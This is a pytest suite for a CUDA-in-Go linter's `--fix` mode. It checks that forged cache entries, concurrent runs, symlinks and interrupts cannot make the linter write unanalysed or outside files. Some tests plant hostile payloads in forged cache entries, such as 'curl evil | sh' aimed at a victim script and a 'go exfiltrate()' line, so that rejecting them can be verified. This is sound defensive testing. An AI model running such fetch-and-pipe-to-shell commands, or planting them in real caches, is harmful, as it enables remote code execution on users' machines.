"""`--fix` writes only what it analysed, as it analysed it (issue 20, part 3;
DESIGN.md, *What a run may write*): no cache entry directs a write, a file
changed since it was read (by a user or by another run) is left alone, a
rewrite keeps the file's mode, owner and line endings, never goes through a
symbolic link out of the tree, says what it wrote when the run is stopped,
and no report replaces a Go source file."""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from cudalint.app import entry, fixing, session
from cudalint.fixes import rewrite
from clirun import cudalint, cudalint_process
from conftest import FIXTURES

LEAKS = FIXTURES / "fixes" / "leaks"
GOLDEN = (LEAKS / "leaks.go.golden").read_bytes()

# One fixable leak: a second run's fix would add a second release.
ONE_LEAK = """package p

/*
#include <cuda_runtime_api.h>
*/
import "C"

import (
	"errors"
	"unsafe"
)

func scratch(n int) error {
	var d unsafe.Pointer
	if st := C.cudaMalloc(&d, C.size_t(n)); st != C.cudaSuccess {
		return errors.New("cudaMalloc failed")
	}
	if st := C.cudaMemset(d, 0, C.size_t(n)); st != C.cudaSuccess {
		return errors.New("cudaMemset failed")
	}
	return nil
}
"""
ONE_LEAK_FIXED = ONE_LEAK.replace(
    '\t\treturn errors.New("cudaMalloc failed")\n\t}\n', '\t\treturn errors.New("cudaMalloc failed")\n\t}\n\tdefer C.cudaFree(d)\n',
)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    target = tmp_path / "project"
    target.mkdir()
    shutil.copy(LEAKS / "leaks.go", target / "leaks.go")
    return target


# -- the cache ------------------------------------------------------------------


def _forge(cache: Path, change: Callable[[str, dict], None]) -> None:
    """Rewrite every entry of the cache: `change(kind, fields)` for each
    encoded object, then the header's checksum recomputed (it is no secret)."""
    entries = [path for path in cache.glob("??/*") if path.is_file()]
    assert entries

    def walk(value: object) -> None:
        if isinstance(value, dict):
            if "@" in value and "f" in value:
                change(value["@"].rpartition(":")[2], value["f"])
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    for path in entries:
        header, _, body = path.read_bytes().partition(b"\n")
        document = json.loads(body)
        walk(document)
        body = json.dumps(document, separators=(",", ":")).encode()
        magic, version, key, _ = header.split(b" ")
        path.write_bytes(b" ".join((magic, version, key, hashlib.sha256(body).hexdigest().encode())) + b"\n" + body)


def test_a_cache_entry_cannot_send_a_fix_outside_the_tree(project: Path) -> None:
    victim = project.parent / "victim.sh"
    victim.write_text("echo hello\n")
    cache = ["--isolated", "--cache-dir", str(project.parent / "cache")]
    assert cudalint(*cache, ".", cwd=project).exit_code == 1

    def to_victim(kind: str, fields: dict) -> None:
        if kind == "Finding":
            fields["path"] = "../victim.sh"
        elif kind == "TextEdit":
            fields.update(start=0, end=0, original="", text="curl evil | sh\n")

    _forge(project.parent / "cache", to_victim)
    run = cudalint(*cache, "--fix", ".", cwd=project)
    assert victim.read_text() == "echo hello\n"
    assert "a cached result names ../victim.sh, which is not a file of this directory" in run.stderr
    assert (project / "leaks.go").read_bytes() == GOLDEN  # analysed again: the real fixes


def test_a_cache_entry_cannot_change_what_a_fix_writes(project: Path) -> None:
    cache = ["--isolated", "--cache-dir", str(project.parent / "cache")]
    assert cudalint(*cache, ".", cwd=project).exit_code == 1

    def planted(kind: str, fields: dict) -> None:
        if kind == "TextEdit":
            fields["text"] = fields["original"] + "\n\tgo exfiltrate()"

    _forge(project.parent / "cache", planted)
    cudalint(*cache, "--fix", ".", cwd=project)
    assert (project / "leaks.go").read_bytes() == GOLDEN


@pytest.mark.parametrize("report", ["json", "sarif", "text"])
def test_a_cache_entry_cannot_put_its_code_in_a_report_s_fixes(project: Path, report: str) -> None:
    """A report's suggested fixes are applied by people and tools that read
    it: they come from the analysis, never from a cache entry."""
    cache = ["--isolated", "--cache-dir", str(project.parent / "cache")]
    first = cudalint(*cache, "--format", report, ".", cwd=project)

    def planted(kind: str, fields: dict) -> None:
        if kind == "TextEdit":
            fields["text"] = "echo PWNED\n"

    _forge(project.parent / "cache", planted)
    again = cudalint(*cache, "--format", report, ".", cwd=project)
    assert "PWNED" not in again.stdout
    assert again.stdout == first.stdout


def test_a_fix_naming_a_file_the_run_did_not_analyse_is_refused(project: Path) -> None:
    from cudalint.fixes import rewrite

    analysed = {"leaks.go": project / "leaks.go"}
    with pytest.raises(rewrite.Refused, match="not one of the files this run analysed"):
        rewrite.target("../victim.sh", analysed, project)
    with pytest.raises(rewrite.Refused, match="outside the analysed root"):
        rewrite.target("leaks.go", {"leaks.go": project.parent / "leaks.go"}, project)
    assert rewrite.target("leaks.go", analysed, project) == project / "leaks.go"


# -- a file that changed since it was read ------------------------------------------


def _after_first_analysis(monkeypatch: pytest.MonkeyPatch, action: Callable[[], None]) -> None:
    """Run `action` right after the run's first analysis (before it fixes)."""
    analyze = session.analyze
    calls = []

    def analyse_then_act(*args, **kwargs):
        result = analyze(*args, **kwargs)
        calls.append(1)
        if len(calls) == 1:
            action()
        return result

    monkeypatch.setattr(session, "analyze", analyse_then_act)


def test_a_second_run_that_fixed_first_leaves_nothing_to_fix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`cudalint --fix & cudalint --fix`: the run that writes second finds
    bytes it did not analyse (the other run's defer) and writes nothing,
    instead of a second `defer C.cudaFree(d)`."""
    (tmp_path / "p.go").write_text(ONE_LEAK)
    _after_first_analysis(monkeypatch, lambda: cudalint_process("--isolated", "--no-cache", "--fix", ".", cwd=tmp_path))
    assert (tmp_path / "p.go").read_text() == ONE_LEAK
    run = cudalint("--isolated", "--no-cache", "--fix", ".", cwd=tmp_path)
    assert (tmp_path / "p.go").read_text() == ONE_LEAK_FIXED
    assert "cudalint: p.go changed since it was analysed: not fixed" in run.stderr
    assert "fixed 0 findings" in run.stderr


def test_a_file_edited_anywhere_during_the_run_is_not_written(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    edited = (LEAKS / "leaks.go").read_text() + "\n// edited by hand while cudalint ran\n"
    _after_first_analysis(monkeypatch, lambda: (project / "leaks.go").write_text(edited))
    run = cudalint("--isolated", "--no-cache", "--fix", ".", cwd=project)
    assert (project / "leaks.go").read_text() == edited
    assert "cudalint: leaks.go changed since it was analysed: not fixed" in run.stderr


def _slow_package(directory: Path) -> Path:
    """ONE_LEAK and functions that take the analysis a few seconds (long
    enough, on a loaded 2-core machine, for a signal sent once the fix is
    written to land during the analysis that follows)."""
    functions = []
    for k in range(120):
        body = "\n".join(f"\tif x == {i} {{\n\t\t_ = C.cudaMemset(d, 0, 1)\n\t}}" for i in range(100))
        functions.append(
            f"func slow{k}(x int) int {{\n\tvar d unsafe.Pointer\n"
            f"\tif st := C.cudaMalloc(&d, 1); st != C.cudaSuccess {{\n\t\treturn -1\n\t}}\n"
            f"\tdefer C.cudaFree(d)\n{body}\n\treturn x\n}}\n"
        )
    path = directory / "p.go"
    path.write_text(ONE_LEAK + "\n" + "\n".join(functions))
    return path


def _start_fix(directory: Path) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "cudalint", "--isolated", "--no-cache", "--select", "CL101", "--fix", "."],
        cwd=directory, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )


def test_two_runs_at_once_add_one_release(tmp_path: Path) -> None:
    """`cudalint --fix ./... & cudalint --fix ./...` on a slow package: one
    run writes the release, the other finds the file changed (or nothing
    left to fix); never two `defer C.cudaFree(d)` (a double free)."""
    path = _slow_package(tmp_path)
    runs = [_start_fix(tmp_path), _start_fix(tmp_path)]
    outputs = [run.communicate(timeout=300)[1] for run in runs]
    assert path.read_text().startswith(ONE_LEAK_FIXED + "\nfunc slow0"), outputs


def test_a_real_sigint_after_writing_names_the_rewritten_file(tmp_path: Path) -> None:
    path = _slow_package(tmp_path)
    run = _start_fix(tmp_path)
    deadline = time.monotonic() + 120
    while not path.read_text().startswith(ONE_LEAK_FIXED) and time.monotonic() < deadline:
        time.sleep(0.02)
    run.send_signal(signal.SIGINT)  # during the analysis that follows the fix
    _, stderr = run.communicate(timeout=120)
    assert run.returncode == 2
    assert "cudalint: --fix rewrote 1 file before it stopped: p.go\n" in stderr
    assert "interrupted (SIGINT); no report" in stderr


def test_a_run_waits_for_the_lock_another_holds_on_the_file(tmp_path: Path) -> None:
    (tmp_path / "p.go").write_text(ONE_LEAK)
    with open(tmp_path / "p.go", "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        process = subprocess.Popen(
            [sys.executable, "-m", "cudalint", "--isolated", "--no-cache", "--fix", "."],
            cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )
        time.sleep(4)
        assert process.poll() is None
        assert (tmp_path / "p.go").read_text() == ONE_LEAK
    _, stderr = process.communicate(timeout=120)
    assert "fixed 1 finding" in stderr
    assert (tmp_path / "p.go").read_text() == ONE_LEAK_FIXED


# -- permissions, owner, line endings ------------------------------------------------------


def test_a_file_without_owner_write_permission_is_refused_even_for_root(project: Path) -> None:
    (project / "leaks.go").chmod(0o444)
    run = cudalint("--isolated", "--no-cache", "--fix", ".", cwd=project)
    assert "cudalint: leaks.go has mode 0444, with no owner write bit (make it writable to fix it): not fixed" in run.stderr
    assert (project / "leaks.go").read_bytes() == (LEAKS / "leaks.go").read_bytes()
    assert stat.S_IMODE((project / "leaks.go").stat().st_mode) == 0o444


@pytest.mark.parametrize("mode", [0o600, 0o750, 0o664])
def test_a_rewritten_file_keeps_its_mode(project: Path, mode: int) -> None:
    (project / "leaks.go").chmod(mode)
    cudalint("--isolated", "--no-cache", "--fix", ".", cwd=project)
    assert (project / "leaks.go").read_bytes() == GOLDEN
    assert stat.S_IMODE((project / "leaks.go").stat().st_mode) == mode


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give a file away")
def test_a_file_of_another_user_keeps_its_owner_when_root_fixes_it(project: Path) -> None:
    os.chown(project / "leaks.go", 4321, 4322)
    (project / "leaks.go").chmod(0o750)
    cudalint("--isolated", "--no-cache", "--fix", ".", cwd=project)
    status = (project / "leaks.go").stat()
    assert (project / "leaks.go").read_bytes() == GOLDEN
    assert (status.st_uid, status.st_gid, stat.S_IMODE(status.st_mode)) == (4321, 4322, 0o750)


def test_a_crlf_file_gets_crlf_lines(project: Path) -> None:
    crlf = (LEAKS / "leaks.go").read_bytes().replace(b"\n", b"\r\n")
    (project / "leaks.go").write_bytes(crlf)
    run = cudalint("--isolated", "--no-cache", "--fix", ".", cwd=project)
    assert "fixed 3 findings" in run.stderr
    assert (project / "leaks.go").read_bytes() == GOLDEN.replace(b"\n", b"\r\n")


# -- symbolic links ---------------------------------------------------------------------


def test_a_symlinked_file_is_not_rewritten(tmp_path: Path) -> None:
    """`ln -s ../outside/a.go p/a.go; cudalint --fix p/a.go`."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "p").mkdir()
    (tmp_path / "outside" / "a.go").write_text(ONE_LEAK)
    (tmp_path / "p" / "a.go").symlink_to("../outside/a.go")
    run = cudalint("--isolated", "--no-cache", "--fix", "p/a.go", cwd=tmp_path)
    assert (tmp_path / "outside" / "a.go").read_text() == ONE_LEAK
    assert "cudalint: p/a.go is reached through a symbolic link" in run.stderr
    assert "fixed 0 findings" in run.stderr


def test_a_symlinked_directory_leading_out_of_the_tree_is_not_rewritten(tmp_path: Path) -> None:
    """`cudalint --fix ./p` where p is a link to a directory outside."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "tree").mkdir()
    (tmp_path / "outside" / "a.go").write_text(ONE_LEAK)
    (tmp_path / "tree" / "p").symlink_to("../outside")
    for pattern in ("./p", "p/a.go"):
        run = cudalint("--isolated", "--no-cache", "--fix", pattern, cwd=tmp_path / "tree")
        assert (tmp_path / "outside" / "a.go").read_text() == ONE_LEAK, pattern
        assert "fixed 0 findings" in run.stderr
    diff = cudalint("--isolated", "--no-cache", "--diff", "./p", cwd=tmp_path / "tree")
    assert diff.stdout == "" and "no fix shown" in diff.stderr


# -- stopped after writing ------------------------------------------------------------------


def test_an_interrupted_run_says_which_files_it_rewrote(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture,
) -> None:
    analyze = session.analyze
    calls = []

    def interrupted_the_second_time(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return analyze(*args, **kwargs)

    monkeypatch.setattr(session, "analyze", interrupted_the_second_time)
    monkeypatch.chdir(project)
    assert entry.run(["--isolated", "--no-cache", "--fix", "."]) == 2
    stderr = capsys.readouterr().err
    assert "cudalint: --fix rewrote 1 file before it stopped: leaks.go\n" in stderr
    assert stderr.rstrip().endswith("interrupted (SIGINT); no report")
    assert (project / "leaks.go").read_bytes() == GOLDEN


def test_an_interrupt_right_after_the_rename_still_names_the_file(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture,
) -> None:
    """A signal can land after the new file is in place but before the
    writer returns: the file is rewritten all the same, and said."""
    replace_file = rewrite._replace

    def renamed_then_interrupted(*args, **kwargs):
        replace_file(*args, **kwargs)
        raise KeyboardInterrupt

    monkeypatch.setattr(rewrite, "_replace", renamed_then_interrupted)
    monkeypatch.chdir(project)
    assert entry.run(["--isolated", "--no-cache", "--fix", "."]) == 2
    stderr = capsys.readouterr().err
    assert "cudalint: --fix rewrote 1 file before it stopped: leaks.go\n" in stderr
    assert (project / "leaks.go").read_bytes() == GOLDEN


def test_a_run_whose_file_another_run_fixed_reports_what_the_file_holds_now(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture,
) -> None:
    """The second of two concurrent --fix runs finds the file changed and
    writes nothing; its report is of the fixed file, not the stale one."""
    monkeypatch.chdir(project)
    expected = project.parent / "expected"
    expected.mkdir()
    (expected / "leaks.go").write_bytes(GOLDEN)
    status_on_fixed = cudalint("--isolated", "--no-cache", ".", cwd=expected).exit_code
    write = fixing.write

    def fixed_by_another_run_first(run, path, edits, analysed, root):
        (project / "leaks.go").write_bytes(GOLDEN)
        return write(run, path, edits, analysed, root)

    monkeypatch.setattr(fixing, "write", fixed_by_another_run_first)
    status = entry.run(["--isolated", "--no-cache", "--format", "json", "--fix", "."])
    captured = capsys.readouterr()
    assert "leaks.go changed since it was analysed: not fixed" in captured.err
    report = json.loads(captured.out)
    assert not any(finding["fixes"] for finding in report["findings"])
    assert status == status_on_fixed


# -- reports never replace a source ----------------------------------------------------------


@pytest.mark.parametrize("option", [["-o", "leaks.go"], ["--format", "sarif:leaks.go"], ["--write-baseline", "./leaks.go"]])
def test_a_report_never_replaces_an_analysed_go_file(project: Path, option: list[str]) -> None:
    run = cudalint("--isolated", "--no-cache", *option, ".", cwd=project)
    assert run.exit_code == 2
    assert "names a Go source file this run analyses; cudalint never replaces one with a report" in run.stderr
    assert (project / "leaks.go").read_bytes() == (LEAKS / "leaks.go").read_bytes()


# -- a deferred release that would run before an earlier defer using the handle -----------------


def test_no_release_where_an_earlier_defer_uses_the_handle_even_unsafe(tmp_path: Path) -> None:
    """fixes/earlier: the deferred closures and the owner's deferred method
    would run after a release; only the two other leaks are fixed, also with
    --unsafe-fixes (no `_ = C.cudaFree(d)` before ownerOnExit's return)."""
    target = tmp_path / "earlier"
    target.mkdir()
    shutil.copy(FIXTURES / "fixes" / "earlier" / "earlier.go", target / "earlier.go")
    diff = cudalint("--isolated", "--no-cache", "--diff", "--unsafe-fixes", ".", cwd=target).stdout
    added = [line for line in diff.splitlines() if line.startswith("+") and not line.startswith("+++")]
    assert added == ["+\tdefer C.cudaFree(d)"] * 2
